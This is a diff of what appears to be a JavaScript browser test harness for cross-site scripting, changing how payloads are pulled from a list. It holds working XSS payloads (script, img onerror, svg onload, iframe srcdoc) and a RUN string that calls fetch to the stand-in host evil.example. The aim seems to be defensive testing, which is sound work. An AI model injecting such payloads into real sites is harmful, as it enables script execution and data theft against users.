@@ -12,8 +12,7 @@ after(async () => (await closeBrowser(), await server.close()));
 
 const RUN = 'top.ran=1;window.ran=1;alert(1);fetch("https://evil.example/ran")';
 const marks = (s) => s.replace(/%[a-z_]*js[a-z_]*%/gi, RUN).replace(/%[a-z_]*uri[a-z_]*%/gi, 'https://evil.example/x');
-const payloads = (v) =>
-  typeof v === 'string' ? (v.includes('<') ? [v] : []) : Array.isArray(v) ? v.flatMap(payloads) : v && typeof v === 'object' ? Object.values(v).flatMap(payloads) : [];
+const payloads = (list) => list.map((v) => v.payload ?? v.data);
 
 const OWN = [
   `<script>${RUN}</script>`, `<img src=x onerror='${RUN}'>`, `<svg onload='${RUN}'>`, `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
